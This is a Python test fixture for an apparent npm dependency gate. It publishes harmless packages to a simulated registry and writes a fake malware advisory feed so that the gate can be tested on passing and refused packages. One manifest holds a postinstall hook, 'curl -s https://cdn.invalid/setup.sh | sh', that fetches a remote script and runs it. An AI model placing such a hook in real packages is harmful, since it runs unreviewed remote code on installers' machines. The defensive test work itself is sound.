"""What the gate's tests publish: packages that pass, and one for every way of being refused. All of it is inert."""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

from tests.end_to_end.run import Machine
from tests.registry_simulator import Published, RegistrySimulator

#: Only the internal registry is asked for it; someone published the name in the public one, too.
INTERNAL = "@corp/own-thing"
FETCHES = {"scripts": {"postinstall": "curl -s https://cdn.invalid/setup.sh | sh"}}
EMPTY: dict[str, object] = {"name": "shop", "version": "1.0.0", "private": True}
#: What a project asks for, and everything of it passes in some version.
WANTED: dict[str, object] = {
    "name": "shop",
    "version": "1.0.0",
    "private": True,
    "dependencies": {
        "@acme-test/scoped-thing": "~0.4.0",
        "bundling-thing": "1.0.0",
        "condemned-thing": "^1.0.0",
        "fresh-thing": "^1.0.0",
        "other-name": "npm:deep-thing@2.0.0",
        "plain-thing": "^1.0.0",
    },
}
#: One that passes, and one that does not but need not be there.
OPTIONAL: dict[str, object] = {
    "name": "shop",
    "version": "1.0.0",
    "private": True,
    "dependencies": {"plain-thing": "^1.0.0"},
    "optionalDependencies": {"malware-thing": "1.0.0"},
}
#: What no version passes of, and what says so: the rule, or words that it is explained with.
REFUSED = {
    "malware-thing": ("known-malware", "is known malware"),
    "fetching-thing": ("install-script-fetches",),
    "confused-thing": ("install-script-fetches", "manifest-confusion"),
    "git-thing": ("remote-dependency",),
}


@dataclass(frozen=True, slots=True)
class Shop:
    """What was published, by name and version."""

    published: Mapping[str, Published]

    @property
    def allowed(self) -> list[Published]:
        """What an install of WANTED puts on disk through a gate, whatever the client."""
        names = (
            *("@acme-test/scoped-thing@0.4.2", "@acme-test/leaf@1.0.0", "bundling-thing@1.0.0"),
            *("condemned-thing@1.0.0", "fresh-thing@1.0.0", "deep-thing@2.0.0", "plain-thing@1.2.3"),
        )
        return [self.published[name] for name in names]


def open_shop(registry: RegistrySimulator, internal: RegistrySimulator) -> Shop:
    """Publish everything."""
    registry.publish(INTERNAL, "9.9.9", files={"index.js": "module.exports = 'not ours';\n"})
    bins: dict[str, object] = {"bin": {"tool-thing": "cli.js"}}
    cli = {"cli.js": "#!/usr/bin/env node\nconsole.log('the tool ran');\n"}
    inner = {"node_modules/inner-thing/package.json": '{"name": "inner-thing", "version": "5.0.0"}'}
    bundle = {"dependencies": {"inner-thing": "^5.0.0"}, "bundleDependencies": ["inner-thing"]}
    scoped = {"dependencies": {"@acme-test/leaf": "^1.0.0"}}
    now = datetime.now(UTC)
    published = [
        *(registry.publish("deep-thing", version) for version in ("1.0.0", "1.4.0", "2.0.0")),
        registry.publish("plain-thing", "1.2.3", manifest={"dependencies": {"deep-thing": "^1.0.0"}}),
        registry.publish("@acme-test/scoped-thing", "0.4.2", manifest=scoped),
        registry.publish("@acme-test/leaf", "1.0.0"),
        registry.publish("inner-thing", "5.0.0"),
        registry.publish("bundling-thing", files={"index.js": "module.exports = 1;\n", **inner}, manifest=bundle),
        *(registry.publish("condemned-thing", version) for version in ("1.0.0", "1.1.0")),
        registry.publish("fresh-thing", "1.0.0"),
        registry.publish("fresh-thing", "1.1.0", published=now),
        registry.publish("tool-thing", "1.0.0", files=cli, manifest=bins),
        registry.publish("malware-thing", "1.0.0", files=cli, manifest={"bin": {"malware-thing": "cli.js"}}),
        registry.publish("fetching-thing", "1.0.0", manifest=FETCHES),
        registry.publish("confused-thing", "1.0.0", manifest=FETCHES, registry_manifest={}),
        internal.publish(INTERNAL, "1.0.0", files={"index.js": "module.exports = 'ours';\n"}),
        registry.publish("git-thing", "1.0.0", manifest={"dependencies": {"x": "git+https://git.acme.invalid/x.git"}}),
    ]
    return Shop({f"{each.name}@{each.version}": each for each in published})


def condemn(machine: Machine, folder: Path) -> None:
    """Give the machine a feed of its own that knows one as malware, and one version of another."""
    folder.mkdir(parents=True)
    every: dict[str, object] = {"ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}]}]}
    known: dict[str, dict[str, object]] = {"malware-thing": every, "condemned-thing": {"versions": ["1.1.0"]}}
    for number, (name, which) in enumerate(known.items()):
        record: dict[str, object] = {
            "id": f"MAL-2025-{number}",
            "modified": "2025-01-02T00:00:00Z",
            "published": "2025-01-01T00:00:00Z",
            "summary": "It steals nothing: this is a test.",
            "affected": [{"package": {"ecosystem": "npm", "name": name}, **which}],
        }
        (folder / f"{record['id']}.json").write_text(json.dumps(record), encoding="utf-8")
    done = machine.assay("feed", "update", folder)
    assert done.code == 0, done.stderr
